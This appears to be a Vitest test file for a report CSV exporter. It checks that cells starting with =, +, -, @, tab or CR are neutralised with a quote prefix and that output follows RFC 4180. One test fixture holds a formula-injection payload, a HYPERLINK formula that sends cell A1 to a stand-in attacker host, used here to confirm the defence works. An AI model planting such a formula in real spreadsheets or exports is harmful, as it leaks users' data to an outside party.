import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { neutralise, toCsv } from './csv'

describe('the report CSV', () => {
  it('prefixes a formula so a spreadsheet shows it: =HYPERLINK(...) becomes text', () => {
    const csv = toCsv(['name', 'note'], [['Docs pilot', '=HYPERLINK("http://evil.example/?x="&A1,"click")']])
    const [, row] = parse(csv) as string[][]
    expect(row?.[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
  })

  it('prefixes every risky first character: = + - @ tab CR, and leaves the rest', () => {
    expect(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'plain', '−3.9 days', ''].map(neutralise)).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", 'plain', '−3.9 days', ''])
  })

  it('is RFC 4180: CRLF line ends, quotes doubled, fields with commas or line breaks quoted', () => {
    expect(toCsv(['a', 'b'], [['x, y', 'say "hi"'], ['line\nbreak', 3]])).toBe('a,b\r\n"x, y","say ""hi"""\r\n"line\nbreak",3\r\n')
  })
})
